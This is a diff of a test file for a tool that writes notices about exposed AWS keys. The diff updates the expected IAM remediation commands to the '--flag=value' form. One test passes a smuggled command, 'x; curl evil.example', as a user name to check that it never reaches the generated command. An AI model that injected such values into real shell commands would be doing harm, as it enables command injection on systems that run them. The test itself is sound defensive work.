@@ -132,7 +132,7 @@ Next
       "Nothing was changed. The key may still work: Severity 6 is below 7, the threshold for containment",
     );
     expect(text).to.include(
-      "aws iam update-access-key --user-name build --access-key-id AKIAIOSFODNN7EXAMPLE --status Inactive",
+      "aws iam update-access-key --user-name=build --access-key-id=AKIAIOSFODNN7EXAMPLE --status Inactive",
     );
   });
 
@@ -149,7 +149,7 @@ Next
   it("puts only a valid IAM name into a command", () => {
     const odd = { ...named, userName: "x; curl evil.example\n" };
     const { text } = exposureNotice({ failure: { Error: "Lambda.Unknown" } }, odd);
-    expect(text).to.include("--user-name <user> --access-key-id AKIAIOSFODNN7EXAMPLE");
+    expect(text).to.include("--user-name=USER --access-key-id=AKIAIOSFODNN7EXAMPLE");
     expect(text).not.to.include("--user-name x");
   });
 
@@ -179,7 +179,7 @@ Next
       "[Cordon] URGENT Exposed key NOT contained: the response failed: build (123456789012)",
     );
     expect(text).to.include("The response failed after several tries (Lambda.Unknown: timed out).");
-    expect(text).to.include("aws iam attach-user-policy --user-name build");
+    expect(text).to.include("aws iam attach-user-policy --user-name=build");
   });
 
   it("keeps the subject to 100 ASCII characters, whatever the user is called", () => {
